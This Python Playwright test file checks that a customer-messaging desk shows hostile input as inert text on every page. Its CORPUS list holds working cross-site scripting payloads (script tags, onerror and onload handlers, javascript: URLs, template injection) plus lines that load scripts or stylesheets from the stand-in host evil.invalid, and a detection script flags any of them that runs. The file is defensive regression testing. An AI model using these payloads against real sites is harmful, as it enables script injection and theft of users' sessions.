"""What others write is text wherever it is shown: nothing of it is drawn, run or fetched, by any way in, in any view.

The corpus goes through names, texts, captions, file names, cards, places, titles, values, notes and user agents; then
every view is looked at, and the watch of every page says whether a request left or its policy had to refuse something.
"""

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, Page, Playwright, expect

from tests.browser.conftest import ContextMaker, Person, join
from tests.browser.desk import Desk
from tests.browser.phone import Phone
from tests.browser.product import PASSWORD, Product, new_email
from tests.browser.provider import Customer, Provider
from tests.browser.scene import arrived, send, shown

SHORT = "<svg onload=_x()>"
"""As long as a button's title may be."""
CORPUS = [
    "<script>_x()</script>",
    "'\"><script src=//evil.invalid/x.js></script>",
    "<img src=x onerror=_x()>",
    "<img src=//evil.invalid/pixel.gif>",
    "<IMG SRC=x oNeRrOr=_x()//",
    "<svg><animate onbegin=_x() attributeName=x></svg>",
    "<svg><script>_x()</script></svg>",
    "<iframe srcdoc='<script>parent._x()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=_x()&gt;'>",
    "<xmp><img src=x onerror=_x()></xmp>",
    "<form><form action=javascript:_x()><button autofocus onfocus=_x()>",
    "<details open ontoggle=_x()>",
    "<style>@import '//evil.invalid/x.css'</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<base href=//evil.invalid>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "&lt;img src=x onerror=_x()&gt;",
    "java\tscript:_x()",
    "[here](javascript:_x())",
    "data:text/html,<script>_x()</script>",
    "https://evil.invalid/<script>_x()</script>",
    "{{constructor.constructor('_x()')()}}${_x()}",
    "\u202e<img src=x onerror=_x()>\u202c",
]
_TRAP = """
window.__ran = [];
window._x = () => window.__ran.push(new Error().stack);
"""
_LOOK = """() => {
  const safe = new Set(['http:', 'https:', 'mailto:', 'tel:', 'blob:']);
  const found = window.__ran.map((stack) => `ran: ${stack}`);
  for (const one of document.querySelectorAll('*')) {
    const told = one.outerHTML.slice(0, 160);
    if (one.matches('iframe, object, embed, base, xmp, math, animate, style, meta[http-equiv]')) {
      found.push(`drawn: ${told}`);
    }
    for (const { name, value } of one.attributes) {
      if (name.startsWith('on')) found.push(`handler: ${told}`);
      if (!['href', 'src', 'action', 'formaction', 'srcset', 'data'].includes(name) || value === '') continue;
      // the sign of the tab is a picture of ours that carries the number of what is unread
      if (one.matches('link[rel=icon]') && value.startsWith('data:image/png;base64,')) continue;
      if (!safe.has(new URL(value, location).protocol)) found.push(`leads astray: ${told}`);
      if (name !== 'href' && value.includes('evil')) found.push(`fetches: ${told}`);
    }
  }
  return found;
}"""


@pytest.fixture
def trapped(context: BrowserContext) -> Page:
    """The admin's browser, where it is seen if a word of the corpus runs."""
    context.add_init_script(_TRAP)
    return context.new_page()


@pytest.fixture
def marked_workspace(product: Product, admin: Person, channel: dict[str, Any]) -> Iterator[None]:
    """Workspace and channel bear markup as their names."""
    product.let_invite(admin.email)
    name = admin.session["workspace"]["name"]
    admin.patch("/api/workspace", {"name": f"Workspace {SHORT}"})
    admin.patch(f"/api/channels/{channel['id']}", {"name": f"Channel {SHORT}"})
    yield
    admin.patch(f"/api/channels/{channel['id']}", {"name": channel["name"]})
    admin.patch("/api/workspace", {"name": name})


def _is_text(page: Page, *words: str) -> None:
    """These words stand on the page, as words."""
    for one in words:
        expect(page.get_by_text(one).first).to_be_attached()
    assert page.evaluate(_LOOK) == []


def _every_kind_of(words: str, customer: Customer) -> int:
    """One way in after the other; how many messages it made."""
    customer.says(words)
    customer.sends_file("document", "invoice.pdf", "application/pdf", caption=words, name=f"{words}.pdf")
    customer.sends(
        "location", location={"latitude": 1.0, "longitude": 2.0, "name": words, "address": words, "url": words}
    )
    card = {
        "name": {"formatted_name": words, "first_name": words},
        "org": {"company": words, "title": words},
        "phones": [{"phone": words, "type": words}],
        "emails": [{"email": words}],
        "urls": [{"url": words}],
    }
    customer.sends("contacts", contacts=[card])
    return 4


def test_messages_are_text_in_the_thread_and_on_the_phone(
    trapped: Page, admin: Person, provider: Provider, marked_workspace: None
) -> None:
    mallory = provider.customer(f"Mallory {SHORT}")
    count = sum(_every_kind_of(words, mallory) for words in CORPUS)
    referral = {
        "source_type": "ad",
        "source_id": "1",
        "source_url": "javascript:_x()",
        "headline": SHORT,
        "body": SHORT,
    }
    mallory.says("I come from an ad", referral=referral)
    mallory.sends_file("image", "carafe.jpg", "image/jpeg", caption=SHORT, name=f"{SHORT}.jpg")
    mallory.sends("order", order={"catalog_id": SHORT, "text": SHORT, "product_items": [_item(SHORT)]})
    arrived(admin, mallory, count + 3)
    _answer_with_markup(admin, mallory)

    desk = Desk(trapped).open()
    desk.row_named(mallory.name).click()
    expect(desk.answer_box(mallory)).to_be_in_viewport()
    read = _read_the_whole_thread(desk)
    for words in CORPUS:
        core = re.sub("[\t\u202a-\u202e]", "", words.replace("java\t", ""))
        assert core in read, core
    assert read.count(SHORT) >= 12

    phone = Phone(trapped).take(mallory)
    expect(phone.chat).to_contain_text("I come from an ad")
    _is_text(trapped, f"Channel {SHORT}", f"Workspace {SHORT}")


def _item(words: str) -> dict[str, Any]:
    return {"product_retailer_id": words, "quantity": 1, "item_price": 1, "currency": "EUR"}


def _answer_with_markup(admin: Person, mallory: Customer) -> None:
    """Everything that the desk itself sends, and the taps that bring it back."""
    send(admin, mallory, {"kind": "text", "text": f"Note {SHORT}"}, kind="note")
    buttons = [{"id": SHORT, "title": SHORT}]
    send(
        admin,
        mallory,
        {"kind": "buttons", "text": f"Buttons {SHORT}", "header": SHORT, "footer": SHORT, "buttons": buttons},
    )
    offer = shown(mallory, f"Buttons {SHORT}")
    mallory.sends("button", message_id=offer["id"], reply=buttons[0])
    rows = [{"id": SHORT, "title": SHORT, "description": SHORT}]
    sections = [{"title": SHORT, "choices": rows}]
    send(admin, mallory, {"kind": "list", "text": f"List {SHORT}", "button": SHORT, "sections": sections})
    offer = shown(mallory, f"List {SHORT}")
    mallory.sends("list", message_id=offer["id"], reply=rows[0])
    mallory.says(f"Quoting {SHORT}", message_id=offer["id"])
    values = [{"name": "1", "value": SHORT}, {"name": "2", "value": SHORT}]
    send(admin, mallory, {"kind": "template", "name": "order_update", "language": "en_US", "body_values": values})


def _read_the_whole_thread(desk: Desk) -> str:
    """From its end to its beginning, as it is drawn; all that stood there."""
    seen: dict[str, None] = {}
    desk.thread.focus()
    for _ in range(200):
        for text in desk.thread.get_by_role("article").all_text_contents():
            seen[re.sub("[\t\u202a-\u202e]", "", text)] = None
        assert desk.page.evaluate(_LOOK) == []
        if desk.thread.evaluate("(log) => log.scrollTop") == 0 and len(seen) >= 4 * len(CORPUS):
            break
        desk.page.keyboard.press("PageUp")
        desk.page.wait_for_timeout(60)
    return "\n".join(seen)


def test_names_are_text_wherever_people_are_named(
    trapped: Page, admin: Person, provider: Provider, marked_workspace: None
) -> None:
    customers = [provider.customer(words) for words in CORPUS]
    for customer in customers:
        customer.says(customer.name)
    desk = Desk(trapped).open()
    expect(desk.list.get_by_role("option").first).to_be_visible()
    expect(trapped.get_by_text(f"{len(CORPUS)} waiting")).to_be_visible()
    _is_text(trapped, SHORT, CORPUS[2])

    victim = customers[2]
    desk.row_named(victim.name).first.click()
    box = trapped.get_by_role("textbox", name="Answer to ")
    box.fill(CORPUS[5])
    _is_text(trapped, CORPUS[5])
    box.fill("")
    desk.act(victim.name, "Quote")
    _is_text(trapped, victim.name)
    trapped.get_by_role("button", name="Do not quote").click()
    trapped.get_by_role("button", name="Close", exact=True).click()
    expect(trapped.get_by_role("complementary", name="Contact")).to_contain_text(victim.name)
    _is_text(trapped)
    trapped.keyboard.press("Control+k")
    trapped.keyboard.type("onerror")
    expect(trapped.get_by_role("listbox", name="Commands and search").get_by_text("onerror").first).to_be_visible()
    _is_text(trapped)
    trapped.keyboard.press("Escape")
    trapped.get_by_role("button", name="Resolve").click()
    expect(trapped.get_by_text(f"Resolved {victim.name}")).to_be_visible()
    _is_text(trapped)


def test_the_names_of_the_desk_are_text_on_its_settings_and_at_the_door(
    trapped: Page,
    new_context: ContextMaker,
    admin: Person,
    playwright: Playwright,
    product: Product,
    channel: dict[str, Any],
    marked_workspace: None,
) -> None:
    link = admin.post("/api/invitations", {"email": new_email(), "role": "agent", "sees": "all"})["link"]
    join(
        playwright, product, "/api/invitation", token=link.partition("token=")[2], name=f"Agent {SHORT}"
    ).http.dispose()
    admin.post("/api/tokens", {"name": f"Token {SHORT}", "scopes": ["conversations:read"], "channel_ids": None})
    admin.post("/api/saved-replies", {"title": f"Reply {SHORT}", "text": SHORT, "is_shared": True})
    stranger = playwright.request.new_context(
        base_url=product.url, user_agent=f"{SHORT}/1.0", extra_http_headers={"Origin": product.url}
    )
    assert stranger.post("/api/session", data={"email": admin.email, "password": PASSWORD}).ok
    stranger.dispose()
    for section, words in (
        ("channels", f"Channel {SHORT}"),
        (f"channels/{channel['id']}", f"Channel {SHORT}"),
        ("people", f"Agent {SHORT}"),
        ("tokens", f"Token {SHORT}"),
        ("sessions", "<svg"),
        ("replies", f"Reply {SHORT}"),
        ("templates", "order_update"),
        ("deliveries", "For nobody"),
        ("profile", "Your profile"),
    ):
        trapped.goto(f"/settings/{section}")
        _is_text(trapped, words)
    trapped.goto("/settings/general")
    expect(trapped.get_by_label("Name")).to_have_value(f"Workspace {SHORT}")
    _is_text(trapped)
    trapped.goto(f"/inbox/channel-{channel['id']}")
    expect(trapped).to_have_title(re.compile(re.escape(f"Channel {SHORT}")))
    _is_text(trapped, f"Channel {SHORT}")

    door = new_context()
    door.add_init_script(_TRAP)
    page = door.new_page()
    page.goto(admin.post("/api/invitations", {"email": new_email(), "role": "agent", "sees": "all"})["link"])
    _is_text(page, f"Workspace {SHORT}")
